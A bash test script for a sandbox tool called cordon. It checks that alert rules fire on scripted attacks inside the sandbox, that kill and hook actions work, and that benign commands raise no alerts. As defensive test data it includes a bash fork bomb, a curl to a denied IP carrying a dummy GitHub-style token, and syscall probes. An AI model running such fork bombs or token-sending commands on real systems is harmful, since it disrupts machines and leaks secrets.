#!/usr/bin/env bash
# Alert rules end to end ([[alert]], docs/EVENTS.md `alert`): scripted attacks raise their alert (and stop the
# run when the rule says kill), hooks get the alert as JSON, and benign work raises none. As root and as the
# unprivileged user cordon-test.
# Usage: run_alerts.sh CORDON [PROBE]   (PROBE: the escape suite's cordon_probe, for the syscall attacks)
set -uo pipefail
CORDON=$(readlink -f "$1")
PROBE=${2:+$(readlink -f "$2")}
. "$(dirname "$0")/lib.sh" alerts

GH_KEY='ghp_Zq8Rw2Lk5Vn1Tb7Yc3Xm9Pd4Hs6Jf0Ga2Ue8'  # a key the built-in redaction rules find (github-pat)

# alerts_in EVENTS-FILE: the rule ids of the alert events in the file, one per line.
alerts_in() {
  python3 -c 'import json,sys
for l in open(sys.argv[1]):
    e = json.loads(l)
    if e["type"] == "alert": print(e["rule"])' "$1" 2>/dev/null
}

# attack NAME RULE WANT_RC MAX_SECONDS [RUN-OPTIONS...] -- CMD...: runs CMD in the sandbox ($R, $POLICY_ARGS) with an event log and
# checks that RULE raised an alert (event and stderr line), that cordon exited WANT_RC (123: stopped by the
# rule's kill action) within MAX_SECONDS, and that no secret reached the log. Sets $out (stderr and stdout) and $ev.
# When the event the rule counts is never produced (REQUIRES=TYPE), the check is skipped, saying so.
attack() {
  local name=$1 rule=$2 want_rc=$3 max=$4 rc t0
  shift 4
  ev=$ws/ev-$name.jsonl
  rm -f "$ev"
  t0=$SECONDS
  out=$("${R[@]}" "$CORDON" run "${POLICY_ARGS[@]}" --events "$ev" "$@" 2>&1); rc=$?
  local took=$((SECONDS - t0))
  if [[ -n ${REQUIRES:-} ]] && ! grep -q "\"type\":\"$REQUIRES\"" "$ev" 2>/dev/null; then
    skip "$label: $name" "no $REQUIRES event in this build (rc=$rc)"
    return
  fi
  local why=""
  [[ $rc == "$want_rc" ]] || why+="exit $rc, want $want_rc; "
  (( took <= max )) || why+="took ${took}s, want <= ${max}s; "
  alerts_in "$ev" | grep -qx "$rule" || why+="no alert $rule in the log; "
  [[ $out == *"cordon: alert $rule "* || $out == *"cordon: alert $rule:"* ]] || why+="no stderr line for $rule; "
  grep -qF "$GH_KEY" "$ev" && why+="the log holds the secret; "
  [[ -z $why ]] && ok "$label: $name" || bad "$label: $name" "$why out=${out:0:600} log=$(tail -c 800 "$ev" 2>/dev/null)"
}

run_suite() {  # label runner...
  label=$1; shift
  ws=$tmp/ws-$label
  mkdir -p "$ws"
  [[ $label == user ]] && chown "$USER_NAME" "$ws"
  R=("$@")
  cd "$ws" || return
  local out rc
  POLICY_ARGS=()

  # ---- the built-in rules -----------------------------------------------------------------------------------
  attack net-denied-default net-denied 0 20 --net allowlist --allow-host example.com:443 -- \
    sh -c 'curl -sS -m 5 http://10.1.2.3/ >/dev/null 2>&1; exit 0'
  attack redaction-default output-redacted 0 20 -- sh -c "echo token $GH_KEY"
  if [[ $out == *"cordon: alert output-redacted (warning): "* && $out != *"$GH_KEY"* ]] &&
     python3 -c 'import json,sys
a = [json.loads(l) for l in open(sys.argv[1]) if "\"alert\"" in l]
a = [e for e in a if e["type"] == "alert"]
assert len(a) == 1, a
e = a[0]
assert e["severity"] == "warning" and e["trigger"] == "output.redacted" and e["actions"] == ["log"], e
assert e["detail"] == {"stream": "stdout", "rule": "github-pat"}, e
assert e["origin"] == "profile workspace-write [output-redacted]", e' "$ev"; then
    ok "$label: the alert event has its fields"
  else
    bad "$label: alert fields" "out=${out:0:400} log=$(cat "$ev")"
  fi

  # ---- kill: a rule on redaction hits stops a command that goes on ------------------------------------------
  cat > "$tmp/kill-$label.toml" <<'TOML'
version = 1
extends = "workspace-write"
remove_alerts = ["output-redacted"]

[[alert]]
id = "output-redacted"
on = "output.redacted"
severity = "critical"
message = "the command printed a secret"
actions = ["kill"]
TOML
  chmod 644 "$tmp/kill-$label.toml"
  POLICY_ARGS=(--policy "$tmp/kill-$label.toml")
  local marker="cordon-alert-kill-$label-$$"
  rm -f "$ws/after"
  attack kill-on-redaction output-redacted 123 5 -- \
    bash -c "echo $GH_KEY; (exec -a $marker sleep 60) & sleep 30; touch after"
  [[ $out == *"cordon: alert output-redacted: the command printed a secret: run stopped"* ]] &&
    ok "$label: the stop is one line naming the rule" || bad "$label: stop line" "${out:0:400}"
  sleep 0.3
  if pgrep -f "$marker" >/dev/null; then
    bad "$label: nothing survives the stop" "$(pgrep -af "$marker")"; pkill -f "$marker"
  elif [[ -e $ws/after ]]; then
    bad "$label: nothing survives the stop" "the command went on"
  else
    ok "$label: nothing survives the stop"
  fi

  # a kill rule on the command's own exec.decision: stopped before anything runs
  cat > "$tmp/exec-kill-$label.toml" <<'TOML'
version = 1
extends = "workspace-write"

[[alert]]
id = "no-touch"
on = "exec.decision"
match = { program = ["touch", "dd"] }
message = "touch is not for agents"
actions = ["log", "kill"]

[[alert]]
id = "refused"
on = "exec.decision"
match = { decision = "deny" }
severity = "critical"
message = "a command rule refused a command"
TOML
  chmod 644 "$tmp/exec-kill-$label.toml"
  POLICY_ARGS=(--policy "$tmp/exec-kill-$label.toml")
  rm -f "$ws/touched"
  attack kill-before-start no-touch 123 5 -- touch touched
  [[ ! -e $ws/touched ]] && ok "$label: a stop before the start runs nothing" || bad "$label: stop before start" "file created"
  attack refused-command refused 126 5 -- sudo id

  # ---- hooks: the alert as JSON on stdin; a hook that cannot start is a warning ------------------------------
  local got=$tmp/hook-$label.json
  rm -f "$got"
  touch "$got"; chmod 666 "$got"
  cat > "$tmp/hook-$label.toml" <<TOML
version = 1
extends = "workspace-write"
remove_alerts = ["net-denied"]

[[alert]]
id = "net-denied"
on = "net.connection"
match = { decision = "deny" }
message = "a connection the policy refuses"
actions = ["hook"]
hook = ["/bin/sh", "-c", "cat > $got"]

[[alert]]
id = "broken-hook"
on = "output.redacted"
actions = ["log", "hook"]
hook = ["/nonexistent/alert-hook"]
TOML
  chmod 644 "$tmp/hook-$label.toml"
  POLICY_ARGS=(--policy "$tmp/hook-$label.toml")
  out=$("${R[@]}" "$CORDON" run "${POLICY_ARGS[@]}" --events "$ws/ev-hook.jsonl" --net allowlist \
        --allow-host example.com:443 -- sh -c "curl -sS -m 5 http://10.1.2.3/?t=$GH_KEY >/dev/null 2>&1; echo $GH_KEY; exit 3" 2>&1)
  rc=$?
  if [[ $rc == 3 ]] && python3 -c 'import json,sys
h = json.loads(open(sys.argv[1]).read())
ev = [json.loads(l) for l in open(sys.argv[2])]
run = ev[0]["run"]
assert h["type"] == "alert" and h["v"] == 1 and h["run"] == run, h
assert h["rule"] == "net-denied" and h["trigger"] == "net.connection" and h["actions"] == ["hook"], h
assert h["detail"]["host"] == "10.1.2.3" and h["detail"]["decision"] == "deny", h' "$got" "$ws/ev-hook.jsonl"; then
    ok "$label: the hook got the alert as JSON (with the run id)"
  else
    bad "$label: hook" "rc=$rc hook=[$(cat "$got")] out=${out:0:400}"
  fi
  grep -qF "$GH_KEY" "$got" "$ws/ev-hook.jsonl" && bad "$label: no secret to the hook" "$(cat "$got")" || ok "$label: no secret to the hook"
  [[ $(grep -c '^cordon: warning: alert hook /nonexistent/alert-hook could not start: No such file or directory$' <<<"$out") == 1 ]] &&
    ok "$label: a hook that cannot start is one warning line" || bad "$label: broken hook" "${out:0:400}"

  # ---- attacks whose events come from other layers (deny.syscall, limit.hit): checked once they exist -------
  POLICY_ARGS=()
  if [[ -n $PROBE ]]; then
    cp "$PROBE" "$ws/probe" && chmod 755 "$ws/probe"
    REQUIRES=deny.syscall attack syscall-burst denial-burst 0 60 -- \
      sh -c 'for i in $(seq 12); do ./probe bpf; ./probe keyctl; done >/dev/null 2>&1; exit 0'
  else
    skip "$label: syscall-burst" "no probe binary given"
  fi
  cat > "$tmp/fork-$label.toml" <<'TOML'
version = 1
extends = "workspace-write"
[limits]
processes = 64
TOML
  chmod 644 "$tmp/fork-$label.toml"
  POLICY_ARGS=(--policy "$tmp/fork-$label.toml")
  if "${R[@]}" "$CORDON" doctor 2>/dev/null | grep -q '^limits enforced by:  rlimits + cgroup'; then
    attack fork-bomb fork-bomb 123 5 --timeout 10 -- bash -c 'bomb() { bomb | bomb & }; bomb; sleep 30'
  else
    # no cgroup for this caller: RLIMIT_NPROC contains the bomb, and the kernel reports nothing to alert on
    out=$("${R[@]}" "$CORDON" run "${POLICY_ARGS[@]}" --timeout 3 -- bash -c 'bomb() { bomb | bomb & }; bomb; sleep 30' 2>&1); rc=$?
    [[ $rc == 124 ]] && ok "$label: fork bomb contained by rlimits (timeout)" || bad "$label: fork bomb contained" "rc=$rc ${out:0:300}"
    skip "$label: fork-bomb alert" "no cgroup for this caller: a refused fork (RLIMIT_NPROC) is not reported by the kernel"
  fi
  POLICY_ARGS=()

  # ---- benign work: no alert from the built-in rules --------------------------------------------------------
  printf '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n' > "$ws/hello.c"
  [[ $label == user ]] && chown "$USER_NAME" "$ws/hello.c"
  rm -f "$ws/ev-benign.jsonl"
  local benign_fail=""
  for cmd in 'git init -q repo && cd repo && echo x > f && git add f && git -c user.name=a -c user.email=a@b commit -qm first' \
             'cc -o hello hello.c && ./hello' \
             'python3 -c "import subprocess, json; print(json.dumps(subprocess.run([\"echo\", \"hi\"], capture_output=True).stdout.decode()))"' \
             'tar czf t.tgz hello.c && tar tzf t.tgz && ls -la /tmp /proc/self/fd >/dev/null'; do
    out=$("${R[@]}" "$CORDON" run --events "$ws/ev-benign.jsonl" -- bash -c "$cmd" 2>&1); rc=$?
    [[ $rc == 0 ]] || benign_fail+="[$cmd] exit $rc: ${out:0:200}; "
    [[ $out == *"cordon: alert"* ]] && benign_fail+="[$cmd] $out; "
  done
  [[ -n $(alerts_in "$ws/ev-benign.jsonl") ]] && benign_fail+="alert events: $(alerts_in "$ws/ev-benign.jsonl" | tr '\n' ' ')"
  [[ -z $benign_fail ]] && ok "$label: benign work raises no alert" || bad "$label: benign" "$benign_fail"
}

run_suite root
run_suite user as_user

# ---- policy validation -------------------------------------------------------------------------------------
cd "$tmp"
cat > alert-bad.toml <<'TOML'
version = 1
extends = "workspace-write"
remove_alerts = ["nope"]

[[alert]]
id = "x"
on = "net.conection"
actions = ["kill", "page"]

[[alert]]
id = "y"
on = "net.connection"
actions = ["hook"]
TOML
out=$("$CORDON" policy check alert-bad.toml 2>&1); rc=$?
for want in 'alert-bad.toml:3: `remove_alerts` names "nope"' 'alert-bad.toml:7: `alert.on` "net.conection" names no event type' \
            'alert-bad.toml:8: `alert.actions` entries must be' 'alert-bad.toml:10: the "hook" action needs `hook = '; do
  [[ $rc == 125 ]] && grep -qF "$want" <<<"$out" && ok "policy check (alerts) names: $want" || bad "policy check alerts" "missing [$want] in: $out"
done
out=$("$CORDON" policy show 2>&1)
[[ $out == *"alert rules"*"fork-bomb"*"critical"*"log,kill"* ]] && ok "policy show lists the alert rules" || bad "policy show alerts" "$out"

echo "alerts: $pass passed, $fail failed, $skipped skipped"
(( fail == 0 ))
